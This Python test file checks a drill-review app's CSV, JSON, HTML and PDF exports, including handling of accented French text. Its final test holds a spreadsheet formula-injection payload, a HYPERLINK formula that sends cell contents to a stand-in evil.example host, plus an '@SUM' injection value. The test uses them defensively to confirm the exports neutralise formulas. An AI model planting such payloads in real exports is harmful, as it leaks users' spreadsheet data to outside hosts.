"""Review exports: printable HTML, PDF, CSV (escaping, accents) and the JSON report and API."""

import csv
import io
import re

import pytest

from app.scoring import exports, review_items
from app.scoring.models import AnnotationCreate, ImprovementCreate, OverrideCreate, SummaryUpdate
from tests.factories import sign_in
from tests.plans.html import by_id
from tests.scoring.review_helpers import ended_team, in_days

WHY = 'Réponse jugée « correcte » par l\'équipe, malgré le délai; voir "débriefing"'
NOTE = "Très bonne première déclaration, à réutiliser"


@pytest.fixture
def team(session, factory):
    """An ended drill whose review has an annotation, an override, a summary and an item."""
    team = ended_team(session, factory)
    drill, user = team.drill, team.trainer
    review_items.add_annotation(
        session=session,
        drill=drill,
        user=user,
        annotation_in=AnnotationCreate(target_kind="action", target_id="action:1", body=NOTE),
    )
    review_items.set_override(
        session=session,
        drill=drill,
        user=user,
        override_in=OverrideCreate(
            metric="responsiveness.priority_reply_rate", value=80, justification=WHY
        ),
    )
    review_items.save_summary(
        session=session,
        drill=drill,
        user=user,
        summary_in=SummaryUpdate(summary="Synthèse : réactifs.", version=1),
    )
    review_items.add_improvement(
        session=session,
        drill=drill,
        user=user,
        item_in=ImprovementCreate(
            section="messages", title="Message de démenti", due_on=in_days(30)
        ),
    )
    return team


def read_csv(response):
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_actions_csv_keeps_accents_and_escapes(client, team):
    sign_in(client, team.monitor)
    rows = read_csv(client.get(f"/drills/{team.drill.id}/review/actions.csv"))
    assert [row["kind"] for row in rows] == ["note", "statement", "checklist_done"]
    assert rows[1]["annotations"] == NOTE and rows[1]["clock"] == "1:00"
    assert "empathy" in rows[1]["tone_labels"] and float(rows[1]["tone_score"]) > 0


def test_metrics_csv_has_computed_and_overridden_points_with_the_why(client, team):
    sign_in(client, team.monitor)
    rows = read_csv(client.get(f"/drills/{team.drill.id}/review/metrics.csv"))
    row = next(r for r in rows if r["metric"] == "priority_reply_rate")
    assert float(row["points"]) == 80 and row["override_justification"] == WHY
    assert row["computed_points"] != row["points"]
    assert {r["dimension"] for r in rows if not r["metric"]} >= {"responsiveness", "outcome"}


def test_json_report_and_api_apply_overrides_and_keep_computed_values(client, team):
    sign_in(client, team.monitor)
    report = client.get(f"/api/drills/{team.drill.id}/review/report").json()
    assert report["format"] == "stormdrill.score/1"
    assert report["overrides"] == {"responsiveness.priority_reply_rate": 80}
    assert (
        "computed_overall" in report and "computed_score" in report["dimensions"]["responsiveness"]
    )
    review = client.get(f"/api/drills/{team.drill.id}/review").json()
    assert review["summary"] == "Synthèse : réactifs." and review["version"] == 2
    assert review["computed_report"]["overall"] == report["computed_overall"]
    assert [a["body"] for a in review["annotations"]] == [NOTE]
    assert review["overrides"][0]["justification"] == WHY
    assert review["improvements"][0]["section"] == "messages"


def test_printable_review_has_everything_the_pdf_needs(client, team):
    sign_in(client, team.monitor)
    html = client.get(f"/drills/{team.drill.id}/review/print").text
    # A static page: no form, and no script but the shared progressive enhancement (a wide
    # table's scroll box takes the keyboard focus on a phone); its content needs none.
    scripts = re.findall(r"<script\b[^>]*>", html)
    assert "<form" not in html and scripts == ['<script src="/static/js/app.js" defer>']
    assert "Responsiveness" in by_id(html, "review-scores").text
    assert "Time to first public response" in by_id(html, "review-kpis").text
    assert by_id(html, "review-findings").text
    assert "Synthèse : réactifs." in by_id(html, "review-summary").text
    assert "Message de démenti" in by_id(html, "review-improvements").text
    assert NOTE in by_id(html, "review-annotations").text
    overrides = by_id(html, "review-overrides").text
    assert "« correcte »" in overrides and "priority_reply_rate" in overrides
    assert 'class="timeline-svg"' in html and "<polyline" in html


def texts(box):
    """Every text fragment WeasyPrint laid out under a box."""
    if isinstance(getattr(box, "text", None), str):
        yield box.text
    for child in getattr(box, "children", None) or []:
        yield from texts(child)


def test_pdf_is_a_real_document_with_the_whole_review(client, team):
    sign_in(client, team.monitor)
    response = client.get(f"/drills/{team.drill.id}/review.pdf")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-") and len(response.content) > 20_000
    assert b"%%EOF" in response.content[-64:]
    html = client.get(f"/drills/{team.drill.id}/review/print").text
    pages = exports.laid_out(html).pages  # what the PDF's pages hold, laid out by WeasyPrint
    text = " ".join(" ".join(texts(page._page_box)) for page in pages)
    for expected in (
        "Responsiveness",
        "Time to first public response",
        "Strengths",
        "Synthèse : réactifs.",
        "Message de démenti",
        NOTE,
        "« correcte »",
    ):
        assert expected in " ".join(text.split()), expected


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'


def test_csv_exports_write_formulas_as_text(client, session, team):
    drill, user = team.drill, team.trainer
    review_items.add_annotation(
        session=session,
        drill=drill,
        user=user,
        annotation_in=AnnotationCreate(target_kind="action", target_id="action:0", body=FORMULA),
    )
    review_items.set_override(
        session=session,
        drill=drill,
        user=user,
        override_in=OverrideCreate(
            metric="responsiveness.time_to_first_response_s",
            value=50,
            justification="@SUM(1) the reviewer says so",
        ),
    )
    sign_in(client, team.monitor)
    actions = read_csv(client.get(f"/drills/{drill.id}/review/actions.csv"))
    assert actions[0]["annotations"] == "'" + FORMULA
    metrics = read_csv(client.get(f"/drills/{drill.id}/review/metrics.csv"))
    justified = {r["override_justification"] for r in metrics}
    assert "'@SUM(1) the reviewer says so" in justified
